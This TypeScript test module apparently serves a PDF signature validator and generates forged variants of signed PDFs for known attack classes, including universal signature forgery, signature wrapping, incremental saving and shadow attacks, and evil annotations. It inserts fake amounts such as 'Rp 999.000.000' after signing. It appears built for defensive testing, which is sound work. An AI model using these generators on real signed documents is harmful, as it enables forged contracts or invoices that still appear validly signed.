/**
 * Attack generator (test-only): byte-level edits of a signed PDF for each attack class in
 * PADES.md — USF and SWA (CCS 2019), ISA, shadow hide/replace/hide-and-replace (NDSS 2021),
 * evil annotation and sneaky signature (IEEE S&P 2021).
 */
import { concatBytes } from "../../bytes";
import { toHex } from "../bytes";
import { scanPdf } from "../pdf-scan/document";
import { dictGet, type PdfValue } from "../pdf-scan/objects";
import { indexOf, lastIndexOf } from "../pdf-scan/parser";
import { appendUpdate, nextObjectNumber, serialize } from "./incremental";
import { firstPage } from "./test-signer";

const enc = new TextEncoder();

function replaceSameLength(pdf: Uint8Array, at: number, text: string): Uint8Array {
  const out = pdf.slice();
  out.set(enc.encode(text), at);
  return out;
}

function lastSigDict(pdf: Uint8Array): { br: number; contents: number } {
  return { br: lastIndexOf(pdf, "/ByteRange"), contents: lastIndexOf(pdf, "/Contents <") };
}

function ref(v: PdfValue | undefined): number | null {
  return v !== null && typeof v === "object" && v?.kind === "ref" ? v.num : null;
}

/** USF: `/Contents` renamed away (the dictionary has no signature value). */
export function usfNoContents(pdf: Uint8Array): Uint8Array {
  return replaceSameLength(pdf, lastSigDict(pdf).contents, "/Cxntents");
}

/** USF: `/ByteRange` renamed away. */
export function usfNoByteRange(pdf: Uint8Array): Uint8Array {
  return replaceSameLength(pdf, lastSigDict(pdf).br, "/BxteRange");
}

/** USF: `/ByteRange` set to null (padded with spaces to keep every offset). */
export function usfNullByteRange(pdf: Uint8Array): Uint8Array {
  const at = lastSigDict(pdf).br;
  const end = indexOf(pdf, "]", at) + 1;
  return replaceSameLength(pdf, at, `/ByteRange null`.padEnd(end - at, " "));
}

/** USF: `/Contents` filled with zeros (no CMS at all). */
export function usfZeroContents(pdf: Uint8Array): Uint8Array {
  const at = lastSigDict(pdf).contents + 10;
  const end = indexOf(pdf, ">", at);
  return replaceSameLength(pdf, at, `<${"0".repeat(end - at - 1)}`);
}

/** USF: garbage (non-DER) bytes as the signature value. */
export function usfGarbageContents(pdf: Uint8Array): Uint8Array {
  const at = lastSigDict(pdf).contents + 11;
  return replaceSameLength(pdf, at, "3082ffff".repeat(8));
}

/** Rewrites the four /ByteRange numbers in place (same width). */
export function setByteRange(pdf: Uint8Array, values: readonly [number, number, number, number]): Uint8Array {
  const at = lastSigDict(pdf).br;
  const end = indexOf(pdf, "]", at) + 1;
  const text = `/ByteRange [${values.join(" ")}]`;
  if (text.length > end - at) throw new Error("byte range too wide");
  return replaceSameLength(pdf, at, text.padEnd(end - at, " "));
}

/** Reads the current /ByteRange of the last signature dictionary. */
export function byteRangeOf(pdf: Uint8Array): [number, number, number, number] {
  const at = lastSigDict(pdf).br;
  const end = indexOf(pdf, "]", at);
  const nums = new TextDecoder()
    .decode(pdf.subarray(indexOf(pdf, "[", at) + 1, end))
    .trim()
    .split(/\s+/)
    .map(Number);
  return nums as [number, number, number, number];
}

/** SWA: the second range is duplicated/moved so the gap holds more than /Contents. */
export function swaGapTooBig(pdf: Uint8Array): Uint8Array {
  const [a, l1, b, l2] = byteRangeOf(pdf);
  return setByteRange(pdf, [a, l1 - 40, b, l2]);
}

/** SWA: both ranges start at 0 (overlapping, out of order). */
export function swaOverlapping(pdf: Uint8Array): Uint8Array {
  const [, l1] = byteRangeOf(pdf);
  return setByteRange(pdf, [0, l1, 0, l1]);
}

/** SWA/ISA: the signed range stops short of the end of the revision. */
export function swaTailUncovered(pdf: Uint8Array): Uint8Array {
  const [a, l1, b, l2] = byteRangeOf(pdf);
  return setByteRange(pdf, [a, l1, b, l2 - 30]);
}

function replacePageContent(pdf: Uint8Array, text: string): Uint8Array {
  const s = scanPdf(pdf);
  const view = s.view(s.revisions.length - 1);
  const pageNum = firstPage(pdf);
  const page = view.object(pageNum);
  const n = nextObjectNumber(pdf);
  const entries =
    page !== null && typeof page === "object" && page.kind === "dict"
      ? [...page.entries].filter(([k]) => k !== "Contents").map(([k, v]) => `/${k} ${serialize(v)}`)
      : [];
  const stream = `BT /F1 24 Tf 72 500 Td (${text}) Tj ET`;
  return appendUpdate(pdf, [
    { num: n, text: `<</Length ${stream.length}>>\nstream\n${stream}\nendstream` },
    { num: pageNum, text: `<<${entries.join(" ")} /Contents ${n} 0 R>>` },
  ]);
}

/** ISA: a new revision replaces the first page's content. */
export function isaNewContent(pdf: Uint8Array): Uint8Array {
  return replacePageContent(pdf, "DIBATALKAN");
}

/** ISA without xref or trailer: objects appended after the last %%EOF. */
export function isaAppendedObjects(pdf: Uint8Array): Uint8Array {
  const n = nextObjectNumber(pdf);
  const tail = enc.encode(`${n} 0 obj\n<</Length 20>>\nstream\nBT (forged) Tj ET  \nendstream\nendobj\n`);
  const out = new Uint8Array(pdf.length + tail.length);
  out.set(pdf);
  out.set(tail, pdf.length);
  return out;
}

/** ISA with a complete new xref table and no /Prev: the old revisions vanish from the chain. */
export function isaFullRewriteXref(pdf: Uint8Array): Uint8Array {
  const s = scanPdf(pdf);
  const view = s.view(s.revisions.length - 1);
  const nums = [...view.entries.keys()].sort((a, b) => a - b);
  const size = nums[nums.length - 1]! + 1;
  let xref = `xref\n0 ${size}\n`;
  for (let i = 0; i < size; i++) {
    const e = view.entries.get(i);
    xref +=
      e?.type === "offset" ? `${String(e.offset).padStart(10, "0")} 00000 n \n` : "0000000000 65535 f \n";
  }
  const at = pdf.length;
  const text = enc.encode(
    `${xref}trailer\n<</Size ${size} /Root ${serialize(view.trailer.entries.get("Root"))}>>\nstartxref\n${at}\n%%EOF\n`,
  );
  const out = new Uint8Array(pdf.length + text.length);
  out.set(pdf);
  out.set(text, pdf.length);
  return out;
}

/**
 * Prepares a document for shadow attacks before it is signed: revision 0 holds the attacker's
 * page content, revision 1 replaces it with the benign text the signer sees.
 */
export function shadowPrepare(unsigned: Uint8Array): {
  pdf: Uint8Array;
  contentNum: number;
  preparedCatalog: number;
} {
  const evil = replacePageContent(unsigned, "EVIL SHADOW TEXT");
  const s = scanPdf(evil);
  const view = s.view(s.revisions.length - 1);
  const contentNum = ref(dictGet(view.object(firstPage(evil)), "Contents"))!;
  const benign = "BT /F1 24 Tf 72 500 Td (benign text) Tj ET";
  const preparedCatalog = nextObjectNumber(evil);
  const pdf = appendUpdate(evil, [
    { num: contentNum, text: `<</Length ${benign.length}>>\nstream\n${benign}\nendstream` },
    { num: preparedCatalog, text: serialize(view.catalog()) },
  ]);
  return { pdf, contentNum, preparedCatalog };
}

/** Shadow hide: an xref-only update re-points the content object to its older (evil) body. */
export function shadowHide(signed: Uint8Array, contentNum: number): Uint8Array {
  const s = scanPdf(signed);
  let oldOffset = -1;
  for (const sec of s.sections) {
    const e = sec.entries.get(contentNum);
    if (e?.type === "offset") {
      oldOffset = e.offset;
      break;
    }
  }
  const last = s.sections[s.sections.length - 1]!;
  const trailer = [...last.trailer.entries]
    .filter(([k]) => ["Root", "Info", "ID"].includes(k))
    .map(([k, v]) => `/${k} ${serialize(v)}`)
    .join(" ");
  const size = Number(last.trailer.entries.get("Size") ?? 0);
  const at = signed.length;
  const text = enc.encode(
    `xref\n${contentNum} 1\n${String(oldOffset).padStart(10, "0")} 00000 n \ntrailer\n<</Size ${size} /Prev ${last.offset} ${trailer}>>\nstartxref\n${at}\n%%EOF\n`,
  );
  const out = new Uint8Array(signed.length + text.length);
  out.set(signed);
  out.set(text, signed.length);
  return out;
}

/** Shadow replace: an update overrides an existing object (the page content) with new bytes. */
export function shadowReplace(signed: Uint8Array, contentNum: number): Uint8Array {
  const t = "BT /F1 24 Tf 72 500 Td (replaced) Tj ET";
  return appendUpdate(signed, [
    { num: contentNum, text: `<</Length ${t.length}>>\nstream\n${t}\nendstream` },
  ]);
}

/** Shadow hide-and-replace: the trailer's /Root is pointed at a catalog prepared before signing. */
export function shadowHideAndReplace(signed: Uint8Array, preparedCatalog: number): Uint8Array {
  return appendUpdate(signed, [], { rootOverride: preparedCatalog });
}

/** Frees an object in an update that adds nothing (xref-only). */
export function freeObject(signed: Uint8Array, num: number): Uint8Array {
  return appendUpdate(signed, [], { free: [num] });
}

/** Evil Annotation Attack: adds a FreeText annotation to the first page. */
export function evilAnnotation(signed: Uint8Array): Uint8Array {
  const s = scanPdf(signed);
  const view = s.view(s.revisions.length - 1);
  const pageNum = firstPage(signed);
  const page = view.object(pageNum);
  const n = nextObjectNumber(signed);
  const annots = dictGet(page, "Annots");
  const old = (() => {
    const a = view.resolve(annots);
    return a !== null && typeof a === "object" && a?.kind === "array" ? a.items.map(serialize).join(" ") : "";
  })();
  const entries =
    page !== null && typeof page === "object" && page.kind === "dict"
      ? [...page.entries].filter(([k]) => k !== "Annots").map(([k, v]) => `/${k} ${serialize(v)}`)
      : [];
  return appendUpdate(signed, [
    {
      num: n,
      text: `<</Type /Annot /Subtype /FreeText /Rect [72 400 500 450] /Contents (Rp 999.000.000) /DA (/Helv 20 Tf 0 g) /P ${pageNum} 0 R>>`,
    },
    { num: pageNum, text: `<<${entries.join(" ")} /Annots [${old} ${n} 0 R]>>` },
  ]);
}

/** Fills a text field: writes /V into the field's dictionary (form filling, ISO 32000-2 §12.7.5). */
export function fillTextField(pdf: Uint8Array, fieldName: string, value: string): Uint8Array {
  const s = scanPdf(pdf);
  const view = s.view(s.revisions.length - 1);
  const fields = view.resolve(dictGet(view.resolve(dictGet(view.catalog(), "AcroForm")), "Fields"));
  const items = fields !== null && typeof fields === "object" && fields?.kind === "array" ? fields.items : [];
  for (const f of items) {
    const num = ref(f);
    const d = view.resolve(f);
    const t = dictGet(d, "T");
    if (
      num === null ||
      t === null ||
      typeof t !== "object" ||
      t?.kind !== "string" ||
      new TextDecoder().decode(t.bytes) !== fieldName
    )
      continue;
    const entries =
      d !== null && typeof d === "object" && d?.kind === "dict"
        ? [...d.entries].filter(([k]) => k !== "V").map(([k, v]) => `/${k} ${serialize(v)}`)
        : [];
    return appendUpdate(pdf, [{ num, text: `<<${entries.join(" ")} /V (${value})>>` }]);
  }
  throw new Error(`no field ${fieldName}`);
}

function entriesText(d: PdfValue | undefined, skip: readonly string[]): string {
  return d !== null && typeof d === "object" && d?.kind === "dict"
    ? [...d.entries]
        .filter(([k]) => !skip.includes(k))
        .map(([k, v]) => `/${k} ${serialize(v)}`)
        .join(" ")
    : "";
}

function newestView(pdf: Uint8Array) {
  const s = scanPdf(pdf);
  return s.view(s.revisions.length - 1);
}

/**
 * Form replaced after signing: the catalog's /AcroForm is pointed at a new dictionary that keeps
 * every field but adds an /XFA form (which XFA viewers show instead of the signed pages) and
 * turns /NeedAppearances on. `inPlace` rewrites an indirect /AcroForm object under its own
 * number instead of re-pointing the catalog (throws if the form is a direct dictionary).
 */
export function acroFormReplaceXfa(signed: Uint8Array, options: { inPlace?: boolean } = {}): Uint8Array {
  const view = newestView(signed);
  const catNum = ref(view.trailer.entries.get("Root"))!;
  const cat = view.catalog();
  const formRef = ref(dictGet(cat, "AcroForm"));
  const form = view.resolve(dictGet(cat, "AcroForm"));
  const n = nextObjectNumber(signed);
  const xfa = "<xdp:xdp><template>Rp 999.000.000</template></xdp:xdp>";
  const xfaObj = { num: n, text: `<</Length ${xfa.length}>>\nstream\n${xfa}\nendstream` };
  const formText = `<<${entriesText(form, ["XFA", "NeedAppearances"])} /XFA ${n} 0 R /NeedAppearances true>>`;
  if (options.inPlace) {
    if (formRef === null) throw new Error("the /AcroForm is a direct dictionary");
    return appendUpdate(signed, [xfaObj, { num: formRef, text: formText }]);
  }
  return appendUpdate(signed, [
    xfaObj,
    { num: n + 1, text: formText },
    { num: catNum, text: `<<${entriesText(cat, ["AcroForm"])} /AcroForm ${n + 1} 0 R>>` },
  ]);
}

/**
 * Form fields dropped after signing: the catalog gets a new direct /AcroForm whose /Fields
 * lacks the named top-level field (the signature field itself, or any other).
 */
export function acroFormDropField(signed: Uint8Array, fieldName: string): Uint8Array {
  const view = newestView(signed);
  const catNum = ref(view.trailer.entries.get("Root"))!;
  const cat = view.catalog();
  const form = view.resolve(dictGet(cat, "AcroForm"));
  const fields = view.resolve(dictGet(form, "Fields"));
  const items = fields !== null && typeof fields === "object" && fields?.kind === "array" ? fields.items : [];
  const kept = items.filter((f) => {
    const t = dictGet(view.resolve(f), "T");
    return !(
      t !== null &&
      typeof t === "object" &&
      t?.kind === "string" &&
      new TextDecoder().decode(t.bytes) === fieldName
    );
  });
  if (kept.length === items.length) throw new Error(`no field ${fieldName}`);
  return appendUpdate(signed, [
    {
      num: catNum,
      text: `<<${entriesText(cat, ["AcroForm"])} /AcroForm <<${entriesText(form, ["Fields"])} /Fields [${kept.map(serialize).join(" ")}]>>>>`,
    },
  ]);
}

/** Page added after signing: a copy of the first page appended to the root /Pages node. */
export function pageAdded(signed: Uint8Array): Uint8Array {
  const view = newestView(signed);
  const pagesRef = ref(dictGet(view.catalog(), "Pages"))!;
  const pages = view.object(pagesRef);
  const kids = view.resolve(dictGet(pages, "Kids"));
  const items = kids !== null && typeof kids === "object" && kids?.kind === "array" ? kids.items : [];
  const page = view.object(firstPage(signed));
  const n = nextObjectNumber(signed);
  return appendUpdate(signed, [
    { num: n, text: `<<${entriesText(page, ["Parent", "Annots"])} /Parent ${pagesRef} 0 R>>` },
    {
      num: pagesRef,
      text: `<<${entriesText(pages, ["Kids", "Count"])} /Kids [${items.map(serialize).join(" ")} ${n} 0 R] /Count ${items.length + 1}>>`,
    },
  ]);
}

/**
 * Prepares a dangling reference before signing: the first page's /Annots names an object
 * number no revision defines (viewers show nothing for it when the document is signed).
 */
export function danglingPrepare(unsigned: Uint8Array): { pdf: Uint8Array; dangling: number } {
  const view = newestView(unsigned);
  const pageNum = firstPage(unsigned);
  const dangling = nextObjectNumber(unsigned) + 50;
  return {
    pdf: appendUpdate(unsigned, [
      {
        num: pageNum,
        text: `<<${entriesText(view.object(pageNum), ["Annots"])} /Annots [${dangling} 0 R]>>`,
      },
    ]),
    dangling,
  };
}

/** Defines the dangling object after signing as a FreeText annotation: the signed page now shows it. */
export function danglingDefine(signed: Uint8Array, dangling: number): Uint8Array {
  return appendUpdate(signed, [
    {
      num: dangling,
      text: `<</Type /Annot /Subtype /FreeText /Rect [72 400 500 450] /Contents (Rp 999.000.000) /DA (/Helv 20 Tf 0 g)>>`,
    },
  ]);
}

/**
 * Prepares an orphan before signing: a FreeText annotation object that nothing references, so
 * the signed document does not show it.
 */
export function orphanPrepare(unsigned: Uint8Array): { pdf: Uint8Array; orphan: number } {
  const orphan = nextObjectNumber(unsigned);
  return {
    pdf: appendUpdate(unsigned, [
      {
        num: orphan,
        text: `<</Type /Annot /Subtype /FreeText /Rect [72 400 500 450] /Contents (Rp 999.000.000) /DA (/Helv 20 Tf 0 g)>>`,
      },
    ]),
    orphan,
  };
}

/**
 * Links the pre-signing orphan into the first page's /Annots after signing: no new object,
 * only the page's /Annots grows by a reference to older, signed bytes.
 */
export function orphanLink(signed: Uint8Array, orphan: number): Uint8Array {
  const view = newestView(signed);
  const pageNum = firstPage(signed);
  const page = view.object(pageNum);
  const annots = view.resolve(dictGet(page, "Annots"));
  const old = annots !== null && typeof annots === "object" && annots?.kind === "array" ? annots.items : [];
  return appendUpdate(signed, [
    {
      num: pageNum,
      text: `<<${entriesText(page, ["Annots"])} /Annots [${[...old.map(serialize), `${orphan} 0 R`].join(" ")}]>>`,
    },
  ]);
}

/**
 * Sets /NeedAppearances in a new direct /AcroForm after signing. `true` makes viewers redraw
 * every field from its value instead of showing the signed appearances; `false` is harmless.
 * A string is written as is (e.g. `12 0 R`, a reference to a `true` prepared before signing).
 */
export function acroFormNeedAppearances(signed: Uint8Array, value: boolean | string): Uint8Array {
  const view = newestView(signed);
  const catNum = ref(view.trailer.entries.get("Root"))!;
  const cat = view.catalog();
  const form = view.resolve(dictGet(cat, "AcroForm"));
  return appendUpdate(signed, [
    {
      num: catNum,
      text: `<<${entriesText(cat, ["AcroForm"])} /AcroForm <<${entriesText(form, ["NeedAppearances"])} /NeedAppearances ${value}>>>>`,
    },
  ]);
}

/**
 * Rewrites text inside the newest signature dictionary before its /Contents is (re)made: the
 * first `from` after the dictionary's `<<` becomes `to`, padded with spaces to the same length,
 * so every offset and the /ByteRange stay as they were. Follow with `resignLast` to make the
 * signature value match the edited bytes again (then only the dictionary is wrong).
 */
export function rewriteSigDict(pdf: Uint8Array, from: string | RegExp, to: string): Uint8Array {
  const { br, contents } = lastSigDict(pdf);
  const start = lastIndexOf(pdf.subarray(0, Math.min(br, contents)), "<<");
  const end = indexOf(pdf, ">>", indexOf(pdf, ">", contents + 10));
  const text = Array.from(pdf.subarray(start, end), (b) => String.fromCharCode(b)).join("");
  const m = typeof from === "string" ? { index: text.indexOf(from), 0: from } : from.exec(text);
  if (m === null || m.index < 0) throw new Error(`no ${from} in the signature dictionary`);
  if (to.length > m[0].length) throw new Error("replacement longer than the text it replaces");
  return replaceSameLength(pdf, start + m.index, to.padEnd(m[0].length, " "));
}

/**
 * Signs the newest signature's byte range again: `make(content)` gets the bytes the /ByteRange
 * covers and returns the DER (a CMS, or a time-stamp token for a document time-stamp), which
 * replaces the old value in /Contents (zero-padded).
 */
export async function resignLast(
  pdf: Uint8Array,
  make: (content: Uint8Array) => Promise<Uint8Array>,
): Promise<Uint8Array> {
  const [, l1, b, l2] = byteRangeOf(pdf);
  const content = new Uint8Array(l1 + l2);
  content.set(pdf.subarray(0, l1));
  content.set(pdf.subarray(b, b + l2), l1);
  return replaceContents(pdf, await make(content));
}

/** Writes `der` into the newest signature's /Contents (zero-padded), so every offset stays. */
export function replaceContents(pdf: Uint8Array, der: Uint8Array): Uint8Array {
  const [, l1, b] = byteRangeOf(pdf);
  const hex = toHex(der);
  if (hex.length > b - l1 - 2) throw new Error("value larger than the reserved /Contents");
  return replaceSameLength(pdf, l1 + 1, hex.padEnd(b - l1 - 2, "0"));
}

/**
 * Sets entries of the interactive form in a new direct /AcroForm (the catalog rewritten): e.g.
 * `{ DA: "(/Helv 0 Tf 1 0 0 rg)" }` restyles fields drawn from /DA, `{ DR: "<</Font <<...>>>>" }`
 * swaps or adds the fonts they are drawn with. Also usable before signing, to prepare a form.
 */
export function acroFormSet(pdf: Uint8Array, set: Readonly<Record<string, string>>): Uint8Array {
  const view = newestView(pdf);
  const catNum = ref(view.trailer.entries.get("Root"))!;
  const cat = view.catalog();
  const form = view.resolve(dictGet(cat, "AcroForm"));
  const extra = Object.entries(set)
    .map(([k, v]) => `/${k} ${v}`)
    .join(" ");
  return appendUpdate(pdf, [
    {
      num: catNum,
      text: `<<${entriesText(cat, ["AcroForm"])} /AcroForm <<${entriesText(form, Object.keys(set))} ${extra}>>>>`,
    },
  ]);
}

/**
 * Links an older object (e.g. the unreferenced annotation of `orphanPrepare`) into the form's
 * /Fields after signing, through a new direct /AcroForm: no new object for it, only /Fields grows.
 */
export function orphanLinkField(signed: Uint8Array, orphan: number): Uint8Array {
  const view = newestView(signed);
  const fields = view.resolve(dictGet(view.resolve(dictGet(view.catalog(), "AcroForm")), "Fields"));
  const old = fields !== null && typeof fields === "object" && fields?.kind === "array" ? fields.items : [];
  return acroFormSet(signed, { Fields: `[${[...old.map(serialize), `${orphan} 0 R`].join(" ")}]` });
}

/**
 * A new text field (field and widget in one new object, with a value and no appearance stream)
 * added to /Fields and to the first page's /Annots after signing.
 */
export function textFieldAdded(signed: Uint8Array): Uint8Array {
  const view = newestView(signed);
  const n = nextObjectNumber(signed);
  const pageNum = firstPage(signed);
  const page = view.object(pageNum);
  const annots = view.resolve(dictGet(page, "Annots"));
  const oldAnnots =
    annots !== null && typeof annots === "object" && annots?.kind === "array" ? annots.items : [];
  const catNum = ref(view.trailer.entries.get("Root"))!;
  const cat = view.catalog();
  const form = view.resolve(dictGet(cat, "AcroForm"));
  const fields = view.resolve(dictGet(form, "Fields"));
  const old = fields !== null && typeof fields === "object" && fields?.kind === "array" ? fields.items : [];
  return appendUpdate(signed, [
    {
      num: n,
      text: `<</FT /Tx /T (Jumlah) /V (Rp 999.000.000) /DA (/Helv 20 Tf 0 g) /Type /Annot /Subtype /Widget /Rect [72 400 500 450] /P ${pageNum} 0 R>>`,
    },
    {
      num: pageNum,
      text: `<<${entriesText(page, ["Annots"])} /Annots [${[...oldAnnots.map(serialize), `${n} 0 R`].join(" ")}]>>`,
    },
    {
      num: catNum,
      text: `<<${entriesText(cat, ["AcroForm"])} /AcroForm <<${entriesText(form, ["Fields"])} /Fields [${[...old.map(serialize), `${n} 0 R`].join(" ")}]>>>>`,
    },
  ]);
}

/** One entry of a hand-written cross-reference stream (ISO 32000-2 §7.5.8.3 Table 18). */
export type XrefStreamEntry =
  | { readonly type: "free"; readonly gen: number }
  | { readonly type: "offset"; readonly offset: number; readonly gen: number }
  | { readonly type: "compressed"; readonly stream: number; readonly index: number };

/**
 * The bytes of an uncompressed cross-reference stream object `num` at `at` (W [1 4 2], one
 * subsection per entry; `num` itself is added as an in-use entry at `at`), then startxref/%%EOF.
 */
function xrefStreamSection(
  num: number,
  at: number,
  entries: ReadonlyMap<number, XrefStreamEntry>,
  trailer: { size: number; prev: number; keep: string },
): Uint8Array {
  const all = new Map(entries);
  all.set(num, { type: "offset", offset: at, gen: 0 });
  const nums = [...all.keys()].sort((a, b) => a - b);
  const data = new Uint8Array(nums.length * 7);
  nums.forEach((n, i) => {
    const e = all.get(n)!;
    const [t, f2, f3] =
      e.type === "free" ? [0, 0, e.gen] : e.type === "offset" ? [1, e.offset, e.gen] : [2, e.stream, e.index];
    const o = i * 7;
    data[o] = t;
    data[o + 1] = (f2 >>> 24) & 0xff;
    data[o + 2] = (f2 >>> 16) & 0xff;
    data[o + 3] = (f2 >>> 8) & 0xff;
    data[o + 4] = f2 & 0xff;
    data[o + 5] = (f3 >>> 8) & 0xff;
    data[o + 6] = f3 & 0xff;
  });
  const size = Math.max(trailer.size, num + 1);
  const head = enc.encode(
    `${num} 0 obj\n<</Type /XRef /Size ${size} /W [1 4 2] /Index [${nums.map((n) => `${n} 1`).join(" ")}] /Prev ${trailer.prev} ${trailer.keep} /Length ${data.length}>>\nstream\n`,
  );
  const tail = enc.encode(`\nendstream\nendobj\nstartxref\n${at}\n%%EOF\n`);
  const out = new Uint8Array(head.length + data.length + tail.length);
  out.set(head);
  out.set(data, head.length);
  out.set(tail, head.length + data.length);
  return out;
}

/** Trailer entries an update carries over (as appendUpdate keeps them). */
function keptTrailer(trailer: { entries: ReadonlyMap<string, PdfValue> }): string {
  return ["Root", "Info", "ID", "Encrypt"]
    .filter((k) => trailer.entries.has(k))
    .map((k) => `/${k} ${serialize(trailer.entries.get(k))}`)
    .join(" ");
}

/**
 * Rewrites every classic-table revision that `edit` appended to `original` as a cross-reference
 * stream revision — the layout our signer writes after an xref-stream input — keeping the same
 * objects, entries (offsets moved with the bytes) and trailer entries. Wrap any appendUpdate-based
 * generator with it: `asXrefStreamUpdates(signed, atk.isaNewContent(signed))`.
 */
export function asXrefStreamUpdates(original: Uint8Array, edited: Uint8Array): Uint8Array {
  const s = scanPdf(edited);
  const sections = [...s.sections].sort((a, b) => a.offset - b.offset);
  const added = sections.filter((sec) => sec.offset >= original.length);
  if (added.length === 0) throw new Error("the edit appended no revision");
  let prev = sections.filter((sec) => sec.offset < original.length).pop()!.offset;
  const parts: Uint8Array[] = [original];
  let outLen = original.length;
  let chunkStart = original.length;
  const moves: { from: number; to: number; delta: number }[] = [];
  const moved = (o: number) => {
    for (const m of moves) if (o >= m.from && o < m.to) return o + m.delta;
    return o;
  };
  let num = nextObjectNumber(edited);
  for (const sec of added) {
    if (sec.style !== "table") throw new Error("only classic-table revisions are rewritten");
    const body = edited.subarray(chunkStart, sec.offset);
    moves.push({ from: chunkStart, to: sec.offset, delta: outLen - chunkStart });
    parts.push(body);
    outLen += body.length;
    const entries = new Map<number, XrefStreamEntry>();
    for (const [n, e] of sec.entries)
      entries.set(n, e.type === "offset" ? { type: "offset", offset: moved(e.offset), gen: e.gen } : e);
    const section = xrefStreamSection(num, outLen, entries, {
      size: Number(sec.trailer.entries.get("Size") ?? 0),
      prev,
      keep: keptTrailer(sec.trailer),
    });
    prev = outLen;
    num++;
    parts.push(section);
    outLen += section.length;
    chunkStart = sec.eofEndWithEol;
  }
  parts.push(edited.subarray(chunkStart));
  return concatBytes(parts);
}

/**
 * Shadow hide through a cross-reference stream: an update that adds no object but its xref
 * stream, which points object `num` back at the entry an older revision had for it — an offset
 * or, for an object kept in an object stream, a compressed entry (stream number and index).
 * `back` picks how many differing entries back to go (1 = the one before the newest).
 */
export function shadowHideXrefStream(signed: Uint8Array, num: number, back = 1): Uint8Array {
  const s = scanPdf(signed);
  const sections = [...s.sections].sort((a, b) => a.offset - b.offset);
  const history: XrefStreamEntry[] = [];
  for (const sec of sections) {
    const e = sec.entries.get(num);
    if (e !== undefined) history.push(e);
  }
  const older = history[history.length - 1 - back];
  if (older === undefined) throw new Error(`object ${num} has no older entry`);
  const last = sections[sections.length - 1]!;
  const at = signed.length + (signed[signed.length - 1] === 0x0a ? 0 : 1);
  const section = xrefStreamSection(nextObjectNumber(signed), at, new Map([[num, older]]), {
    size: Number(last.trailer.entries.get("Size") ?? 0),
    prev: last.offset,
    keep: keptTrailer(last.trailer),
  });
  return concatBytes([
    signed,
    signed[signed.length - 1] === 0x0a ? new Uint8Array() : enc.encode("\n"),
    section,
  ]);
}
